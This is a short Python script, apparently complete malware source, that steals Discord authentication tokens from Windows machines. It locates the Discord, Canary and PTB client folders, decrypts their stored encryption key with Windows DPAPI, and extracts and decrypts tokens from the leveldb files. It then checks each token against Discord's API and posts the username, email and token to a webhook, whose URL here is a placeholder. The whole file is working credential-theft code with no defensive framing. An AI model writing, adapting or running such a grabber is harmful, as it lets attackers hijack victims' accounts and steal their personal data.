import base64
import json
import os
import re

import requests

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/FAKE-placeholder-webhook-token"
RX = re.compile(r"dQw4w9WgXcQ:[^\"]*")
ROAMING = os.getenv("APPDATA", "")


def _key(root):
    import win32crypt
    with open(os.path.join(root, "Local State")) as f:
        enc = base64.b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(enc, None, None, None, 0)[1]


def _decrypt(blob, key):
    from Crypto.Cipher import AES
    return AES.new(key, AES.MODE_GCM, blob[3:15]).decrypt(blob[15:])[:-16].decode()


def _grab():
    if os.name != "nt":
        return
    found = []
    for app in ("discord", "discordcanary", "discordptb"):
        root = os.path.join(ROAMING, app)
        leveldb = os.path.join(root, "Local Storage", "leveldb")
        if not os.path.isdir(leveldb):
            continue
        try:
            key = _key(root)
        except Exception:
            continue
        for name in os.listdir(leveldb):
            if name.endswith((".log", ".ldb")):
                with open(os.path.join(leveldb, name), errors="ignore") as f:
                    for m in RX.findall(f.read()):
                        found.append(_decrypt(base64.b64decode(m.split(":")[1]), key))
    for token in set(found):
        me = requests.get("https://discord.com/api/v9/users/@me", headers={"Authorization": token}).json()
        requests.post(WEBHOOK, json={"content": f"{me.get('username')} | {me.get('email')} | {token}"})
